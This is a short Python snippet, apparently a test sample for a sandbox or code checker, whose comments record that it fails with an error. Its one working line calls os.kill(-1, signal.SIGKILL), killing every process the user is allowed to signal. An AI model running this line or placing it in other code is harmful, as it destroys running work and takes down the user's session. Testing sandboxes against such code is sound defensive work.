# Kills every process that it may.
# whole: error failed
# call: error failed
import os, signal
os.kill(-1, signal.SIGKILL)
